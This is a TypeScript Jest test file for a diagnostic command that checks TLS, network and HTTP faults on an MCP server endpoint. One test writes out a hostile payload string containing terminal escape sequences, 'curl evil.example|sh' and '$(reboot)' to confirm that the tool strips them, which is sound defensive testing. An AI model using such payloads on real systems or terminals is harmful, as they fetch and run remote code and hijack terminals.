import { once } from 'node:events'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type ServerOptions } from 'node:https'
import { type AddressInfo, createServer as createTcpServer, type Server, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { getCACertificates, setDefaultCACertificates } from 'node:tls'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals'
import { generate } from 'selfsigned'
import { diagnose } from '../../../infra/doctor/diagnose.ts'
import { type Authority, createAuthority } from '../../sandbox/azure/front/authority.ts'
import { doctor, examineBy, reportIn } from './command.ts'
import { faultsIn } from './stage.ts'

let folder: string
let authority: Authority
let caFile: string
const servers: Server[] = []
const sockets = new Set<Socket>()

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'doctor-'))
  authority = await createAuthority()
  caFile = join(folder, 'ca.pem')
  await writeFile(caFile, authority.ca)
})
afterEach(() => {
  for (const server of servers.splice(0)) server.close()
  for (const socket of sockets) socket.destroy()
  sockets.clear()
})
afterAll(() => rm(folder, { recursive: true, force: true }))

async function listening(server: Server): Promise<number> {
  servers.push(server)
  server.on('connection', (socket) => sockets.add(socket))
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}
const https = (options: ServerOptions) => listening(createServer(options, (_, response) => response.end('{}')))

/** A certificate of a trusted authority whose time is over, or has not come. */
async function outOfTime(notBeforeDate: Date, notAfterDate: Date) {
  const signed = await generate([{ name: 'commonName', value: 'Trial CA' }], {
    keyType: 'ec',
    curve: 'P-256',
    algorithm: 'sha256',
    extensions: [{ name: 'basicConstraints', cA: true, critical: true }],
  })
  const leaf = await generate([{ name: 'commonName', value: 'localhost' }], {
    keyType: 'ec',
    curve: 'P-256',
    algorithm: 'sha256',
    notBeforeDate,
    notAfterDate,
    ca: { key: signed.private, cert: signed.cert },
    extensions: [{ name: 'subjectAltName', altNames: [{ type: 2, value: 'localhost' }] }],
  })
  const file = join(folder, `${notAfterDate.getTime()}.pem`)
  await writeFile(file, signed.cert)
  return { options: { cert: leaf.cert, key: leaf.private }, trusted: file }
}
const DAY = 86_400_000
const daysFromNow = (days: number) => new Date(Date.now() + days * DAY)

describe('TLS, each fault told apart', () => {
  const believed = getCACertificates()
  afterEach(() => setDefaultCACertificates(believed))
  const argsFor = (port: number) => [`https://localhost:${port}/mcp`, '--json']
  /** What NODE_EXTRA_CA_CERTS names a process reads once, at its start: here it is believed alone, and until the next. */
  const examine = async (port: number, trusted: string) => {
    setDefaultCACertificates(trusted === '' ? [] : [await readFile(trusted, 'utf8')])
    return reportIn(await examineBy(argsFor(port)))
  }

  test('the program itself believes what NODE_EXTRA_CA_CERTS names, and nothing else', async () => {
    const port = await https(await authority.certificate(['localhost']))
    const faults = async (trusted: string) =>
      faultsIn(reportIn(await doctor(argsFor(port), { NODE_EXTRA_CA_CERTS: trusted })))
    expect([await faults(''), await faults(caFile)]).toEqual([
      ['failed certificate-unknown-issuer'],
      ['failed not-this-app'],
    ])
  })

  test.each<[string, () => Promise<{ port: number; trusted?: string }>]>([
    [
      'certificate-self-signed',
      async () => {
        const { cert, private: key } = await generate([{ name: 'commonName', value: 'localhost' }], {
          keyType: 'ec',
          curve: 'P-256',
          algorithm: 'sha256',
        })
        return { port: await https({ cert, key }) }
      },
    ],
    [
      'certificate-unknown-issuer',
      async () => ({ port: await https(await authority.certificate(['localhost'])), trusted: '' }),
    ],
    ['certificate-wrong-name', async () => ({ port: await https(await authority.certificate(['crm.example'])) })],
    [
      'certificate-expired',
      async () => {
        const { options, trusted } = await outOfTime(daysFromNow(-9), daysFromNow(-2))
        return { port: await https(options), trusted }
      },
    ],
    [
      'certificate-not-yet-valid',
      async () => {
        const { options, trusted } = await outOfTime(daysFromNow(3), daysFromNow(9))
        return { port: await https(options), trusted }
      },
    ],
    [
      'tls-too-old',
      async () => ({
        port: await https({
          ...(await authority.certificate(['localhost'])),
          minVersion: 'TLSv1',
          maxVersion: 'TLSv1.1',
          ciphers: 'DEFAULT@SECLEVEL=0',
        }),
      }),
    ],
    ['not-tls', async () => ({ port: await listening(createHttpServer((_, response) => response.end('{}'))) })],
    ['not-this-app', async () => ({ port: await https(await authority.certificate(['localhost'])) })],
  ])('%s', async (code, start) => {
    const { port, trusted = caFile } = await start()
    const report = await examine(port, trusted)
    expect(faultsIn(report)).toEqual([`failed ${code}`])
    expect(report.findings.find((finding) => finding.code === code)?.fix).toMatch(/\w{3}/)
  })
})

describe('the way there', () => {
  const oneTry = { attempts: 1, pause: () => Promise.resolve() }

  test('a port where nobody listens', async () => {
    const port = await listening(createTcpServer())
    servers.splice(0).forEach((server) => server.close())
    expect(faultsIn(await diagnose(`http://127.0.0.1:${port}/mcp`, oneTry))).toEqual(['failed connection-refused'])
  })
  test('a name that does not exist', async () => {
    const fetch = () =>
      Promise.reject(new TypeError('fetch failed', { cause: Object.assign(new Error('x'), { code: 'ENOTFOUND' }) }))
    expect(faultsIn(await diagnose('https://crm.example/mcp', { ...oneTry, fetch }))).toEqual(['failed dns-not-found'])
  })
  test('a server that never answers', async () => {
    const port = await listening(createTcpServer())
    expect(faultsIn(await diagnose(`http://127.0.0.1:${port}/mcp`, { ...oneTry, timeoutMs: 300 }))).toEqual([
      'failed answer-timeout',
    ])
  })
  test('a connection that is cut', async () => {
    const port = await listening(createTcpServer((socket) => socket.resetAndDestroy()))
    expect(faultsIn(await diagnose(`http://127.0.0.1:${port}/mcp`, oneTry))).toEqual(['failed connection-lost'])
  })
  test('something that is not HTTP', async () => {
    const port = await listening(createTcpServer((socket) => socket.end('220 mail.example ESMTP\r\n')))
    expect(faultsIn(await diagnose(`http://127.0.0.1:${port}/mcp`, oneTry))).toEqual(['failed not-http'])
  })
  test.each([
    ['a start is waited for', undefined, 503, 3],
    ['functions are not', undefined, 404, 1],
    ['after a deployment they are', 4, 404, 4],
  ])('%s', async (_, attempts, status, looks) => {
    const asked: string[] = []
    const fetch = (input: unknown) => {
      asked.push(String(input))
      return Promise.resolve(new Response('', { status }))
    }
    const pauses: number[] = []
    const pause = (ms: number) => (pauses.push(ms), Promise.resolve())
    await diagnose('https://crm.example/mcp', { fetch, pause, ...(attempts === undefined ? {} : { attempts }) })
    expect(asked.filter((url) => url.endsWith('/health'))).toHaveLength(looks)
    expect(pauses).toEqual(Array.from({ length: looks - 1 }, () => 10_000))
  })
})

describe('a hostile server', () => {
  const oneTry = { attempts: 1, pause: () => Promise.resolve() }

  test('that never stops sending cannot fill the memory', async () => {
    const port = await listening(
      createHttpServer((_, response) => {
        const send = (): void => {
          if (response.write('x'.repeat(65_536))) setImmediate(send)
          else response.once('drain', send)
        }
        response.on('error', () => undefined).on('close', () => response.removeAllListeners('drain'))
        send()
      }),
    )
    const before = process.memoryUsage.rss()
    const report = await diagnose(`http://127.0.0.1:${port}/mcp`, oneTry)
    expect(faultsIn(report)).toEqual(['failed not-this-app'])
    expect(process.memoryUsage.rss() - before).toBeLessThan(100 * 1_048_576)
  })

  test('that drips a byte at a time is left after the time for one answer', async () => {
    const port = await listening(
      createHttpServer((_, response) => {
        const drip = setInterval(() => response.write('x'), 50)
        response.on('close', () => clearInterval(drip))
      }),
    )
    const started = performance.now()
    expect((await diagnose(`http://127.0.0.1:${port}/mcp`, { ...oneTry, timeoutMs: 400 })).passed).toBe(false)
    expect(performance.now() - started).toBeLessThan(20_000)
  })

  test('gets no control character into the terminal and no word of its own into a command', async () => {
    const evil = '\u001b]52;c;Y3VybA==\u0007\u001b[2J\u202e`curl evil.example|sh`; $(reboot)\u0000\u009b1m'
    const port = await listening(
      createHttpServer(({ url = '', method = '' }, response) => {
        const origin = `http://127.0.0.1:${port}`
        const json = (status: number, body: unknown, headers = {}) => {
          response
            .writeHead(status, { 'content-type': 'application/json', ...headers })
            .end(method === 'HEAD' ? '' : JSON.stringify(body))
        }
        if (url === '/health') json(200, { status: 'ok', version: evil })
        else if (url === '/mcp')
          json(
            401,
            { error: evil },
            {
              'www-authenticate': `Bearer resource_metadata="${Buffer.from(evil, 'utf8')
                .toString('latin1')
                .replace(/[^\x20-\x7e]/g, '')}"`,
            },
          )
        else if (url.includes('protected-resource')) json(200, { resource: evil, authorization_servers: [evil, evil] })
        else if (url.includes('authorization-server') || url.includes('openid'))
          json(200, {
            issuer: evil,
            authorization_endpoint: `${origin}/authorize`,
            token_endpoint: `${origin}/token`,
            registration_endpoint: `${origin}/register`,
          })
        else if (url === '/manage')
          json(200, { checks: [{ name: evil, status: evil, found: evil, means: evil, fix: evil, code: evil }] })
        else json(500, { error: evil, error_description: evil })
      }),
    )
    const { findings } = await diagnose(`http://127.0.0.1:${port}/mcp`, { ...oneTry, managementToken: 'x' })
    const texts = findings.flatMap(({ found, means = '', fix = '' }) => [found, means, fix])
    expect(texts.join('')).toMatch(/evil\.example/)
    for (const text of texts) expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    const commands = findings.flatMap(({ fix = '' }) => fix.split('\n').filter((line) => line.startsWith('  ')))
    for (const command of commands) expect(command).not.toMatch(/evil|curl|reboot/)
    const advised = findings.filter(({ fix = '' }) => /evil|curl|reboot/.test(fix))
    for (const { fix } of advised) expect(fix).toMatch(/^The app advises [^“]*“[^”]*”$/)
  })
})
